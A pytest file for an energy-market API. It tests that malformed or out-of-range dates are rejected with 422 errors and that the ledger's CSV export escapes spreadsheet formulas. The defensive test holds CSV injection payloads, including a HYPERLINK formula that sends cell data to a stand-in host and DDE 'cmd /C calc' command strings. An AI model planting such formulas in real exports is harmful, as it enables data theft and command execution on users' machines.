"""Bad input at the API edge: extreme and malformed dates are a 422 everywhere (never a 500,
never a record in year 9999), and the CSV export cannot carry a spreadsheet formula."""
from __future__ import annotations

import csv
import io

import pytest
from pydantic import ValidationError

from tests.api.conftest import key_file, open_site  # noqa: F401 - the API test site fixtures
from vpp.api.routes import status as routes_status
from vpp.api.schemas import status as schemas_status
from vpp.market.ledger import FORMULA_STARTS, csv_safe

BAD_TIMES = [
    "0001-01-01T00:00:00+09:00",  # before datetime.min in UTC
    "0001-01-01T00:30:00-09:00",
    "9999-12-31T23:30:00-09:00",  # after datetime.max in UTC
    "9999-12-31T22:00:00Z",
    "1999-12-31T23:30:00Z",
    "2100-01-01T00:00:00Z",
    "NaN",
    "2026-13-01T00:00:00Z",
    "2026-11-25T00:00:00",  # no offset
]


@pytest.fixture
async def op_site(open_site):
    async with open_site(raise_app_exceptions=False) as site:
        yield site


@pytest.mark.parametrize("t", BAD_TIMES)
async def test_bad_times_are_422_on_every_route_that_takes_one(op_site, t):
    site, h = op_site, op_site.auth("operator")
    c = site.client
    later = "2026-11-26T00:00:00Z"
    calls = [
        c.get("/api/v1/flexibility", params={"start": t, "end": later}, headers=h),
        c.get("/api/v1/flexibility", params={"start": "2026-11-25T00:00:00Z", "end": t}, headers=h),
        c.get("/api/v1/ledger/export", params={"start": t, "end": later, "format": "csv"}, headers=h),
        c.get("/api/v1/baseline", params={"start": t, "end": later}, headers=h),
        c.post("/api/v1/offers", json={"direction": "up", "slots": [{"start": t, "capacity_kw": 1}]}, headers=h),
        c.post("/api/v1/dispatches", json={"award_id": "a" * 32, "type": "setpoint", "start": t, "end": later,
                                           "value_kw": 1}, headers=h),
    ]
    for call in calls:
        r = await call
        assert r.status_code == 422, (r.request.method, r.request.url, r.status_code, r.text[:300])
    assert site.records("offer") == [] and site.records("dispatch") == []
    # this app runs no control loop (503 before the body is read): the bodies themselves refuse
    for call in (c.put("/api/v1/reserve", json={"storm": True, "storm_deadline": t}, headers=h),
                 c.post("/api/v1/override", json={"setpoint_kw": 1, "expires_at": t}, headers=h)):
        assert (await call).status_code in (422, 503)
    for model, body in ((routes_status.ReserveIn, {"storm": True, "storm_deadline": t}),
                        (routes_status.OverrideIn, {"setpoint_kw": 1, "expires_at": t}),
                        (schemas_status.ReserveIn, {"storm": True, "storm_deadline": t}),
                        (schemas_status.OverrideIn, {"setpoint_kw": 1, "expires_at": t})):
        with pytest.raises(ValidationError):
            model.model_validate(body)


async def test_the_openapi_document_states_the_year_bounds(op_site):
    doc = op_site.app.openapi()
    params = {p["name"]: p["schema"] for p in doc["paths"]["/api/v1/flexibility"]["get"]["parameters"]}
    assert params["start"]["pattern"].startswith("^20") and "2000–2099" in params["start"]["description"]
    assert "^20" in str(doc["components"]["schemas"]["SlotIn"])


def test_csv_safe_neutralises_formula_starts():
    for ch in FORMULA_STARTS:
        assert csv_safe(f"{ch}1+1") == f"'{ch}1+1"
    assert csv_safe("operator-1") == "operator-1" and csv_safe(7) == 7 and csv_safe("") == ""


async def test_the_csv_export_carries_no_formula(op_site):
    site = op_site
    led = site.app.state.ledger
    evil = ["=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
    for i, e in enumerate(evil):
        led.record("audit", e, {"action": e}, ref=e, idempotency_key=e)
    r = await site.client.get("/api/v1/ledger/export", params={
        "start": "2026-11-24T00:00:00Z", "end": "2026-11-26T00:00:00Z", "format": "csv"}, headers=site.auth("operator"))
    assert r.status_code == 200
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == len(evil)
    for row, e in zip(rows, evil):
        assert (row["actor"], row["ref"], row["idempotency_key"]) == (f"'{e}",) * 3
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell
    # JSON keeps the values as they are (it is not opened by spreadsheets)
    j = await site.client.get("/api/v1/ledger/export", params={
        "start": "2026-11-24T00:00:00Z", "end": "2026-11-26T00:00:00Z"}, headers=site.auth("operator"))
    assert [rec["actor"] for rec in j.json()["records"]] == evil
